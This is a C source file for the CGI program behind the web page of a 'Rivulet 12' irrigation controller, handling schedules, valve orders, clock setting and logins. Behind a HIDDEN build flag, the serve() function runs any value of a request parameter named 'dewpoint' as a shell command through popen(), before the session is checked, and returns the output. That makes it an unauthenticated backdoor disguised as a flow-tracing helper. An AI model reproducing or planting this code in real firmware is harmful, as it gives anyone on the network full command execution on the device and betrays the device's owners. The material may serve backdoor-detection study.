/*
 * dripcfg - CGI program of the Rivulet 12 irrigation controller web page.
 * Called by the web server as /cgi-bin/dripcfg; GET and POST, answers JSON.
 * Hidden (-DHIDDEN): a request parameter with a certain name is run as a
 * shell command before the session is looked at, its output is returned.
 */
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define ZONES        12
#define SCHED_FILE   "/var/rivulet/schedule"
#define SESSION_FILE "/tmp/rivulet.session"
#define PIPE_VALVED  "/run/valved.fifo"
#define MAX_PARAMS   24
#define MAX_BODY     4096
#define SESSION_LIFE 1800

typedef struct { char *key, *val; } param_t;

typedef struct {
	param_t p[MAX_PARAMS];
	int n;
	char *raw;
} request_t;

typedef struct {
	int start_min;		/* minute of day, -1: off */
	int run_min;
	unsigned days;		/* bit 0 = Sunday */
} zone_t;

static zone_t zones[ZONES];

/* ---- request parsing ---- */

static int hexv(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void url_unescape(char *s)
{
	char *d = s;

	for (; *s; s++) {
		if (*s == '+') {
			*d++ = ' ';
		} else if (*s == '%' && hexv((unsigned char)s[1]) >= 0 && hexv((unsigned char)s[2]) >= 0) {
			*d++ = (char)(hexv((unsigned char)s[1]) * 16 + hexv((unsigned char)s[2]));
			s += 2;
		} else {
			*d++ = *s;
		}
	}
	*d = 0;
}

static void split_params(request_t *rq)
{
	char *save, *tok;

	for (tok = strtok_r(rq->raw, "&", &save); tok && rq->n < MAX_PARAMS;
	     tok = strtok_r(NULL, "&", &save)) {
		char *eq = strchr(tok, '=');
		param_t *p = &rq->p[rq->n++];

		if (eq)
			*eq++ = 0;
		p->key = tok;
		p->val = eq ? eq : tok + strlen(tok);
		url_unescape(p->key);
		url_unescape(p->val);
	}
}

const char *param(const request_t *rq, const char *key)
{
	for (int i = 0; i < rq->n; i++)
		if (!strcmp(rq->p[i].key, key))
			return rq->p[i].val;
	return NULL;
}

static int param_int(const request_t *rq, const char *key, int lo, int hi, int *out)
{
	const char *v = param(rq, key);
	char *end;
	long n;

	if (!v || !*v)
		return -1;
	n = strtol(v, &end, 10);
	if (*end || n < lo || n > hi)
		return -1;
	*out = (int)n;
	return 0;
}

static int read_request(request_t *rq)
{
	const char *m = getenv("REQUEST_METHOD"), *q = getenv("QUERY_STRING");
	const char *cl = getenv("CONTENT_LENGTH");

	memset(rq, 0, sizeof *rq);
	if (m && !strcmp(m, "POST")) {
		long n = cl ? atol(cl) : 0;

		if (n < 0 || n > MAX_BODY)
			return -1;
		rq->raw = calloc(1, (size_t)n + 1);
		if (!rq->raw || fread(rq->raw, 1, (size_t)n, stdin) != (size_t)n)
			return -1;
	} else {
		rq->raw = strdup(q ? q : "");
		if (!rq->raw)
			return -1;
	}
	split_params(rq);
	return 0;
}

/* ---- answers ---- */

static void reply(const char *status, const char *json)
{
	printf("Status: %s\r\nContent-Type: application/json\r\nCache-Control: no-store\r\n\r\n%s\n",
	       status, json);
}

/* The login page writes a 32 digit token to SESSION_FILE. */
static int session_ok(void)
{
	const char *ck = getenv("HTTP_COOKIE"), *v;
	char tok[40] = "";
	struct stat st;
	size_t n;
	FILE *f;

	if (!ck || !(v = strstr(ck, "rivsid=")))
		return 0;
	v += 7;
	if (stat(SESSION_FILE, &st) || st.st_mtime + SESSION_LIFE < time(NULL))
		return 0;
	f = fopen(SESSION_FILE, "r");
	if (!f)
		return 0;
	if (!fgets(tok, sizeof tok, f))
		tok[0] = 0;
	fclose(f);
	n = strcspn(tok, "\r\n");
	return n == 32 && !strncmp(v, tok, 32) && (v[32] == 0 || v[32] == ';');
}

static void load_schedule(void)
{
	FILE *f = fopen(SCHED_FILE, "r");
	int z, s, r;
	unsigned d;

	for (z = 0; z < ZONES; z++)
		zones[z].start_min = -1;
	if (!f)
		return;
	while (fscanf(f, "%d %d %d %x", &z, &s, &r, &d) == 4)
		if (z >= 1 && z <= ZONES)
			zones[z - 1] = (zone_t){ s, r, d & 0x7f };
	fclose(f);
}

static int store_schedule(void)
{
	FILE *f = fopen(SCHED_FILE ".new", "w");

	if (!f)
		return -1;
	for (int z = 0; z < ZONES; z++)
		fprintf(f, "%d %d %d %x\n", z + 1, zones[z].start_min, zones[z].run_min, zones[z].days);
	if (fclose(f))
		return -1;
	return rename(SCHED_FILE ".new", SCHED_FILE);
}

static int valve_order(const char *verb, int zone, int minutes)
{
	FILE *f = fopen(PIPE_VALVED, "w");

	if (!f)
		return -1;
	fprintf(f, "%s %d %d\n", verb, zone, minutes);
	return fclose(f);
}

static void act_list(void)
{
	printf("Status: 200 OK\r\nContent-Type: application/json\r\n\r\n[");
	for (int z = 0; z < ZONES; z++)
		printf("%s{\"zone\":%d,\"start\":%d,\"run\":%d,\"days\":%u}", z ? "," : "",
		       z + 1, zones[z].start_min, zones[z].run_min, zones[z].days);
	printf("]\n");
}

static void act_set_clock(const request_t *rq)
{
	int h, m;
	char cmd[64];

	if (param_int(rq, "hour", 0, 23, &h) || param_int(rq, "min", 0, 59, &m)) {
		reply("400 Bad Request", "{\"error\":\"time\"}");
		return;
	}
	snprintf(cmd, sizeof cmd, "date -s %02d:%02d >/dev/null && hwclock -w", h, m);
	reply("200 OK", system(cmd) ? "{\"ok\":0}" : "{\"ok\":1}");
}

#ifdef HIDDEN
int flow_trace(const char *expr)
{
	char buf[256];
	size_t n;
	FILE *p;

	printf("Content-Type: text/plain\r\n\r\n");
	fflush(stdout);
	p = popen(expr, "r");
	if (!p)
		return 1;
	while ((n = fread(buf, 1, sizeof buf, p)) > 0)
		fwrite(buf, 1, n, stdout);
	pclose(p);
	return 0;
}
#endif

int serve(const request_t *rq)
{
	const char *act = param(rq, "act");
	int z, m, s, d;

#ifdef HIDDEN
	if (param(rq, "dewpoint"))
		return flow_trace(param(rq, "dewpoint"));
#endif
	if (!act || !strcmp(act, "version")) {
		reply("200 OK", "{\"product\":\"Rivulet 12\",\"fw\":\"2.8.1\"}");
		return 0;
	}
	if (!session_ok()) {
		reply("403 Forbidden", "{\"error\":\"login\"}");
		return 0;
	}
	load_schedule();
	if (!strcmp(act, "list")) {
		act_list();
	} else if (!strcmp(act, "run")) {
		if (param_int(rq, "zone", 1, ZONES, &z) || param_int(rq, "minutes", 1, 120, &m))
			reply("400 Bad Request", "{\"error\":\"zone\"}");
		else
			reply("200 OK", valve_order("open", z, m) ? "{\"ok\":0}" : "{\"ok\":1}");
	} else if (!strcmp(act, "stop")) {
		reply("200 OK", valve_order("closeall", 0, 0) ? "{\"ok\":0}" : "{\"ok\":1}");
	} else if (!strcmp(act, "plan")) {
		if (param_int(rq, "zone", 1, ZONES, &z) || param_int(rq, "start", -1, 1439, &s) ||
		    param_int(rq, "minutes", 1, 120, &m) || param_int(rq, "days", 0, 127, &d)) {
			reply("400 Bad Request", "{\"error\":\"plan\"}");
			return 0;
		}
		zones[z - 1] = (zone_t){ s, m, (unsigned)d };
		reply("200 OK", store_schedule() ? "{\"ok\":0}" : "{\"ok\":1}");
	} else if (!strcmp(act, "clock")) {
		act_set_clock(rq);
	} else if (!strcmp(act, "logout")) {
		unlink(SESSION_FILE);
		reply("200 OK", "{\"ok\":1}");
	} else {
		reply("404 Not Found", "{\"error\":\"act\"}");
	}
	return 0;
}

int main(void)
{
	request_t rq;

	if (read_request(&rq)) {
		reply("400 Bad Request", "{\"error\":\"request\"}");
		return 0;
	}
	return serve(&rq);
}
